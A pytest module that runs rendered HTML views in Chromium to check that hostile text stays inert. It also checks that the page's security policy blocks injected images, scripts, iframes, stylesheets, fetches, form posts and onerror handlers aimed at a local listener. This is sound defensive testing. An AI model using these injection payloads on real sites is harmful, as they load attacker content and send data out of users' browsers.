"""Attacks on the page in a real Chromium: hostile text in every field, and elements that got in anyway."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from time import sleep

import pytest

from parkgraph.view import write
from tests.browser import CHROMIUM, Browser
from tests.view_pages import example, hostile

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed: apt-get install chromium")
VIEWS = ("net", "chain", "table", "time")


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("attacks")
    for name, made in {"example": example(), "hostile": hostile()}.items():
        write(made, folder / f"{name}.html")
    return {name: (folder / f"{name}.html").as_uri() for name in ("example", "hostile")}


@pytest.fixture
def page(chromium: Browser, files: dict[str, str]) -> Browser:
    chromium.size(1440, 900)
    chromium.open(files["example"])
    return chromium


@pytest.mark.parametrize(
    "where", ["", *(f"#view={view}" for view in VIEWS), "#view=table&tab=figures", "#node=zone/x"]
)
def test_hostile_text_is_only_text(chromium: Browser, files: dict[str, str], where: str) -> None:
    chromium.size(*(1440, 900))
    chromium.open(files["hostile"] + where)
    chromium.js("document.querySelectorAll('.fold[aria-expanded=false]').forEach(b => b.click())")
    sleep(0.2)
    found = [chromium.js("typeof window.hit"), chromium.complaints(), chromium.requests()[1:]]
    assert found == ["undefined", [], []]


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            return None

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.block_on_close = False
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    thread.join()
    server.server_close()


INJECTIONS = {
    "image": "add('img', {src: URL + '/image'})",
    "script": "add('script', {src: URL + '/script'})",
    "frame": "add('iframe', {src: URL + '/frame'})",
    "style": "add('link', {rel: 'stylesheet', href: URL + '/style'})",
    "fetch": "fetch(URL + '/fetch').catch(() => 0)",
    "form": "add('form', {action: URL + '/form', method: 'post'}).submit()",
    "handler": """document.body.insertAdjacentHTML('beforeend',
        `<img src='data:,' onerror="new Image().src='${URL}/handler'">`)""",
}
ADD = (
    "const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));"
)


@pytest.mark.parametrize("attack", sorted(INJECTIONS))
def test_the_policy_stops_what_gets_in(page: Browser, listener: tuple[str, list[str]], attack: str) -> None:
    address, hits = listener
    page.js(f"void ((URL) => {{ {ADD} {INJECTIONS[attack]} }})({address!r})")
    sleep(0.3)
    assert hits == []
